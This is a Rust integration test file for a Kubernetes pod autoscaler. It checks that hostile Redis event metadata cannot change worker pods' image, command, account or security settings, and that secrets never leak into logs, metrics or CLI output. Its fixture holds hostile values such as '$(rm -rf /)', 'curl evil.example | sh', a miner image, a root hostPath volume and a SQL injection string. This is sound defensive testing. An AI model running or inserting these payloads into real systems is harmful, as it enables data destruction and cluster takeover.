//! Security (docs/contract.md sections 3 and 7, README "Worker pods"):
//!
//! - event content can never change a worker pod's image, command, service account or
//!   security settings: hostile metadata named `image`, `command`, `serviceAccountName`,
//!   `securityContext`... ends up only as `OTTO_META_*` values and in the metadata
//!   annotation, and the pod the API server holds has the template's spec;
//! - the Redis password and the Kubernetes token never appear in ottoscaler's logs (text
//!   and JSON, at debug level, through reconnects and authentication failures), in
//!   `/metrics`, or in what `check-config` and `send-event` print.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use k8s_openapi::api::core::v1::{Pod, PodSpec, ServiceAccount};
use kube::Api;
use kube::api::PostParams;
use testenv::RedisServer;

use common::chaos::{PlannedEvent, RESULTS, Run, STREAM, Template, report, verdict_figures};
use common::ottoscaler::{Launch, Ottoscaler, temp_dir};
use common::redis::redis_cli_auth;

/// A locked-down template as a platform team would write it: the event must not be
/// able to change any of this.
const SECURE_SPEC: &str = r#"
serviceAccountName: otto-agent-runner
automountServiceAccountToken: false
hostNetwork: false
securityContext:
  runAsNonRoot: true
  runAsUser: 1000
  seccompProfile:
    type: RuntimeDefault
containers:
- name: agent
  image: registry.example/otto-agent:1.2.3
  command: ["/bin/otto-agent"]
  args: ["--once"]
  env:
  - name: FROM_TEMPLATE
    value: kept
  securityContext:
    allowPrivilegeEscalation: false
    readOnlyRootFilesystem: true
    privileged: false
    capabilities:
      drop: ["ALL"]
  resources:
    requests: { cpu: 100m, memory: 64Mi }
    limits: { cpu: 500m, memory: 256Mi }
"#;

/// Metadata that tries to reach the pod spec, env and labels.
fn hostile_metadata() -> BTreeMap<String, String> {
    [
        ("image", "evil.example/miner:latest"),
        ("command", "$(rm -rf /)"),
        ("args", "--privileged; curl evil.example | sh"),
        ("serviceAccountName", "cluster-admin"),
        ("securityContext", r#"{"privileged":true,"runAsUser":0}"#),
        ("privileged", "true"),
        ("hostNetwork", "true"),
        ("hostPID", "true"),
        ("nodeName", "control-plane"),
        ("runAsUser", "0"),
        ("volumes", r#"[{"name":"root","hostPath":{"path":"/"}}]"#),
        ("restartPolicy", "Always"),
        ("activeDeadlineSeconds", "99999999"),
        ("OTTO_TASK_ID", "spoofed"),
        ("FROM_TEMPLATE", "overridden"),
        ("labels", "managed-by=someone-else"),
        ("sql", "\"; DROP TABLE pods; --"),
        ("multiline", "line one\nline two\r\nOTTO_TASK_ID=spoofed"),
        ("unicode", "\u{202e}\u{1f4a5} \u{fc}mlaut"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect()
}

/// Waits (polling every 100 ms, up to 30 s) for pod `name` and returns it.
async fn wait_for_pod(pods: &Api<Pod>, name: &str) -> Pod {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        if let Ok(Some(pod)) = pods.get_opt(name).await {
            return pod;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "pod {name} did not appear within 30 s"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// The spec without what legitimately differs between two workers: the node and the
/// containers' env (compared on their own).
fn comparable(spec: &PodSpec) -> PodSpec {
    let mut spec = spec.clone();
    spec.node_name = None;
    for c in &mut spec.containers {
        c.env = None;
    }
    spec
}

fn env_of(pod: &Pod) -> BTreeMap<String, Option<String>> {
    pod.spec
        .as_ref()
        .and_then(|s| s.containers.first())
        .and_then(|c| c.env.clone())
        .unwrap_or_default()
        .into_iter()
        .map(|e| (e.name, e.value))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_metadata_never_changes_the_pods_image_command_account_or_security() {
    let test = "hostile_metadata";
    let env = testenv::shared();
    let ns = env.namespace("hostile-metadata").await;
    // The ServiceAccount admission plugin refuses pods of an account that does not exist.
    let mut account = ServiceAccount::default();
    account.metadata.name = Some("otto-agent-runner".into());
    Api::<ServiceAccount>::namespaced(env.client(), &ns)
        .create(&PostParams::default(), &account)
        .await
        .expect("create the template's ServiceAccount");
    let redis = RedisServer::start();
    let dir = temp_dir(test);
    std::fs::write(dir.join("secure.yaml"), SECURE_SPEC).expect("template file");
    let config = format!(
        "[templates.secure]\npod_spec_file = {:?}\n\
         annotations = {{ \"kubesim.ottoscaler.dev/run-seconds\" = \"3\" }}\n",
        dir.join("secure.yaml").display().to_string()
    );
    let mut run = Run::new(test, env.client(), &ns, &redis.url()).await;
    let mut otto = Ottoscaler::start(Launch::new(redis.port(), &ns, &dir).config(&config));
    tokio::task::block_in_place(|| otto.wait_ready(Duration::from_secs(60)));

    let secure = Template::new("secure", "3", 0);
    let reference = PlannedEvent {
        task_id: "reference".into(),
        pod_count: 1,
        template: secure,
        at: Duration::ZERO,
    };
    let reference_id = run.send(&reference).await;
    let metadata = hostile_metadata();
    let mut fields = PlannedEvent {
        task_id: "hostile".into(),
        pod_count: 2,
        template: secure,
        at: Duration::ZERO,
    }
    .fields();
    fields.extend(
        metadata
            .iter()
            .map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec())),
    );
    let hostile_id = run
        .redis
        .xadd(STREAM, &fields)
        .await
        .expect("XADD hostile event");
    run.sent.push(common::chaos::Sent {
        id: hostile_id.clone(),
        event: PlannedEvent {
            task_id: "hostile".into(),
            pod_count: 2,
            template: secure,
            at: Duration::ZERO,
        },
    });

    // The pods as the API server holds them, while they run.
    let name = |task: &str, id: &str, i| ::ottoscaler::pods::pod_name(task, id, i);
    let reference_pod = wait_for_pod(&run.pods, &name("reference", &reference_id, 0)).await;
    let reference_spec = reference_pod.spec.clone().expect("spec");
    let mut problems = Vec::new();
    for i in 0..2 {
        let pod = wait_for_pod(&run.pods, &name("hostile", &hostile_id, i)).await;
        let spec = pod.spec.clone().expect("spec");
        if comparable(&spec) != comparable(&reference_spec) {
            problems.push(format!(
                "worker {i}: the spec differs from an event without metadata:\n{:#?}\nvs\n{:#?}",
                comparable(&spec),
                comparable(&reference_spec)
            ));
        }
        let worker = &spec.containers[0];
        let pinned = [
            (
                "image",
                worker.image.as_deref() == Some("registry.example/otto-agent:1.2.3"),
            ),
            (
                "command",
                worker.command.as_deref() == Some(&["/bin/otto-agent".to_string()][..]),
            ),
            (
                "args",
                worker.args.as_deref() == Some(&["--once".to_string()][..]),
            ),
            (
                "serviceAccountName",
                spec.service_account_name.as_deref() == Some("otto-agent-runner"),
            ),
            (
                "container securityContext",
                worker.security_context.as_ref().is_some_and(|s| {
                    s.privileged == Some(false)
                        && s.allow_privilege_escalation == Some(false)
                        && s.read_only_root_filesystem == Some(true)
                }),
            ),
            (
                "pod securityContext",
                spec.security_context.as_ref().is_some_and(|s| {
                    s.run_as_non_root == Some(true) && s.run_as_user == Some(1000)
                }),
            ),
            ("hostNetwork", spec.host_network != Some(true)),
            ("hostPID", spec.host_pid != Some(true)),
            ("volumes", spec.volumes.as_ref().is_none_or(Vec::is_empty)),
            (
                "restartPolicy",
                spec.restart_policy.as_deref() == Some("Never"),
            ),
            (
                "activeDeadlineSeconds",
                spec.active_deadline_seconds == reference_spec.active_deadline_seconds,
            ),
        ];
        for (what, ok) in pinned {
            if !ok {
                problems.push(format!("worker {i}: {what} is not the template's"));
            }
        }
        // Env: the template's and ours win; metadata only as OTTO_META_<KEY>, verbatim.
        let env = env_of(&pod);
        let mut want: BTreeMap<String, Option<String>> = env_of(&reference_pod)
            .into_iter()
            .filter(|(k, _)| !k.starts_with("OTTO_META_"))
            .collect();
        want.insert("OTTO_TASK_ID".into(), Some("hostile".into()));
        want.insert("OTTO_EVENT_ID".into(), Some(hostile_id.clone()));
        want.insert("OTTO_WORKER_INDEX".into(), Some(i.to_string()));
        for (k, v) in &metadata {
            want.insert(
                format!("OTTO_META_{}", k.to_ascii_uppercase()),
                Some(v.clone()),
            );
        }
        if env != want {
            problems.push(format!("worker {i}: env {env:#?}\nexpected {want:#?}"));
        }
        // Labels: only the contract's (the API server adds the node's
        // `topology.kubernetes.io/*` at binding); the metadata only as one JSON
        // annotation.
        let labels: BTreeSet<String> = pod
            .metadata
            .labels
            .clone()
            .unwrap_or_default()
            .into_keys()
            .filter(|k| !k.starts_with("topology.kubernetes.io/"))
            .collect();
        let contract_labels: BTreeSet<String> = [
            "managed-by",
            "app",
            "ottoscaler.io/task-id",
            "ottoscaler.io/worker-index",
        ]
        .map(String::from)
        .into();
        if labels != contract_labels {
            problems.push(format!("worker {i}: labels {labels:?}"));
        }
        let annotations = pod.metadata.annotations.clone().unwrap_or_default();
        let meta: Option<BTreeMap<String, String>> = annotations
            .get("ottoscaler.io/metadata")
            .and_then(|j| serde_json::from_str(j).ok());
        if meta.as_ref() != Some(&metadata) {
            problems.push(format!("worker {i}: metadata annotation {meta:?}"));
        }
    }
    let verdict = run
        .wait_for_end(&mut [&mut otto], Duration::from_secs(60))
        .await;
    let mut figures = verdict_figures(&verdict, run.started.elapsed().as_secs_f64());
    figures.extend([
        ("hostile_fields", metadata.len().to_string()),
        ("problems", problems.len().to_string()),
    ]);
    report(test, &figures);
    assert!(
        problems.is_empty(),
        "{}\n{}",
        problems.join("\n"),
        testenv::pods_summary(run.client.clone(), &ns).await
    );
    run.assert_clean(&verdict, &[&otto]).await;
    let _ = std::fs::remove_dir_all(&dir);
}

/// Every byte outside `[A-Za-z0-9-._~]` as `%XX`, for the password in a URL.
fn percent_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Where in `text` any of `secrets` appears, as short excerpts.
fn leaks(text: &str, secrets: &[(&str, String)]) -> Vec<String> {
    let mut found = Vec::new();
    for (what, secret) in secrets {
        if let Some(at) = text.find(secret.as_str()) {
            let from = text[..at]
                .char_indices()
                .rev()
                .nth(80)
                .map_or(0, |(i, _)| i);
            let excerpt: String = text[from..].chars().take(200).collect();
            found.push(format!("{what} at byte {at}: ...{excerpt}..."));
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_never_appear_in_logs_metrics_or_printed_configuration() {
    let test = "secrets";
    let env = testenv::shared();
    let ns = env.namespace("secrets").await;
    let redis = RedisServer::start();
    let port = redis.port();
    let dir = temp_dir(test);
    // Characters that need escaping in a URL, so an encoded copy would leak too.
    let password = format!("Pw-{:016x}@x:y/z#q%", rand::random::<u64>());
    let wrong = format!("Wrong-{:016x}", rand::random::<u64>());
    assert_eq!(
        redis_cli_auth(port, "", &["CONFIG", "SET", "requirepass", &password]),
        "OK"
    );
    let token = env.admin_token().to_string();
    let secrets = vec![
        ("the Redis password", password.clone()),
        ("the Redis password, URL-encoded", percent_encode(&password)),
        ("the rotated Redis password", wrong.clone()),
        ("the Kubernetes token", token.clone()),
    ];
    let url = format!("redis://:{}@127.0.0.1:{port}", percent_encode(&password));
    let mut run = Run::new(test, env.client(), &ns, &url).await;

    // Two instances: human-readable and JSON logs, everything at debug level.
    let template = Template::new("quick", "0.2", 0);
    let config = common::chaos::templates_toml(&[template]);
    let launch = |name: &str, format: &str| {
        Launch::new(port, &ns, &dir.join(name))
            .config(&config)
            .consumer(name)
            .rust_log("debug")
            .env("REDIS_PASSWORD", &password)
            .env("LOG_FORMAT", format)
    };
    let mut text = Ottoscaler::start(launch("text-logs", "text"));
    let mut json = Ottoscaler::start(launch("json-logs", "json"));
    tokio::task::block_in_place(|| {
        text.wait_ready(Duration::from_secs(60));
        json.wait_ready(Duration::from_secs(60));
    });
    let event = |i: usize| PlannedEvent {
        task_id: format!("secret-{i}"),
        pod_count: 1,
        template,
        at: Duration::ZERO,
    };
    for i in 0..3 {
        run.send(&event(i)).await;
    }
    let verdict = run
        .wait_for_end(&mut [&mut text, &mut json], Duration::from_secs(60))
        .await;
    run.assert_clean(&verdict, &[&text, &json]).await;
    let results = run.redis.entries(RESULTS).await.expect("results").len();
    // Error paths, once the work is done: connections killed (reconnects), then the
    // password changed under them for a while (authentication failures), then back.
    redis_cli_auth(port, &password, &["CLIENT", "KILL", "TYPE", "normal"]);
    redis_cli_auth(port, &password, &["CONFIG", "SET", "requirepass", &wrong]);
    redis_cli_auth(port, &wrong, &["CLIENT", "KILL", "TYPE", "normal"]);
    tokio::time::sleep(Duration::from_secs(2)).await;
    redis_cli_auth(port, &wrong, &["CONFIG", "SET", "requirepass", &password]);
    tokio::task::block_in_place(|| {
        text.wait_ready(Duration::from_secs(60));
        json.wait_ready(Duration::from_secs(60));
    });

    let mut found = Vec::new();
    for o in [&text, &json] {
        for leak in leaks(&o.log(), &secrets) {
            found.push(format!("log of {}: {leak}", o.consumer()));
        }
        for leak in leaks(&o.metrics(), &secrets) {
            found.push(format!("/metrics of {}: {leak}", o.consumer()));
        }
    }
    let warnings = text.log().matches("WARN").count();

    // What the commands print: check-config (REDIS_PASSWORD, a URL with the password,
    // an invalid URL with the password), send-event (working and failing).
    let cli = Launch::new(port, &ns, &dir.join("cli")).config(&config);
    let invalid_url = format!("redis://:{}@[::1", percent_encode(&password));
    let closed_port = common::ottoscaler::free_port();
    let runs: Vec<(&str, Launch, Vec<&str>)> = vec![
        (
            "check-config with REDIS_PASSWORD",
            cli.clone().env("REDIS_PASSWORD", &password),
            vec!["check-config"],
        ),
        (
            "check-config with REDIS_URL",
            cli.clone().env("REDIS_URL", &url),
            vec!["check-config"],
        ),
        (
            "check-config with OTTOSCALER_REDIS__URL",
            cli.clone().env("OTTOSCALER_REDIS__URL", &url),
            vec!["check-config"],
        ),
        (
            "check-config with an invalid REDIS_URL",
            cli.clone().env("REDIS_URL", &invalid_url),
            vec!["check-config"],
        ),
        (
            "run with an invalid REDIS_URL",
            cli.clone().env("REDIS_URL", &invalid_url),
            vec!["run"],
        ),
        (
            "send-event",
            cli.clone().env("REDIS_PASSWORD", &password),
            vec!["send-event", "--type", "scale_down", "--task-id", "nothing"],
        ),
        (
            "send-event with the wrong password",
            cli.clone().env("REDIS_PASSWORD", &wrong),
            vec!["send-event", "--type", "scale_down", "--task-id", "nothing"],
        ),
        (
            "send-event to a closed port",
            cli.clone().env(
                "REDIS_URL",
                &format!(
                    "redis://:{}@127.0.0.1:{closed_port}",
                    percent_encode(&password)
                ),
            ),
            vec!["send-event", "--type", "scale_down", "--task-id", "nothing"],
        ),
    ];
    let mut outputs = 0;
    for (what, launch, args) in runs {
        let out = tokio::task::block_in_place(|| launch.run_cli(&args));
        outputs += 1;
        let printed = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        for leak in leaks(&printed, &secrets) {
            found.push(format!("{what}: {leak}"));
        }
        if what == "check-config with REDIS_PASSWORD" {
            assert!(out.status.success(), "{what}: {printed}");
            assert!(
                printed.contains("***"),
                "{what} shows the password masked: {printed}"
            );
        }
        if what == "send-event" {
            assert!(out.status.success(), "{what}: {printed}");
        }
    }
    report(
        test,
        &[
            ("instances", "2".into()),
            ("results", results.to_string()),
            ("log_warnings", warnings.to_string()),
            ("command_outputs", outputs.to_string()),
            ("leaks", found.len().to_string()),
        ],
    );
    assert!(found.is_empty(), "secrets leaked:\n{}", found.join("\n"));
    let _ = std::fs::remove_dir_all(&dir);
}
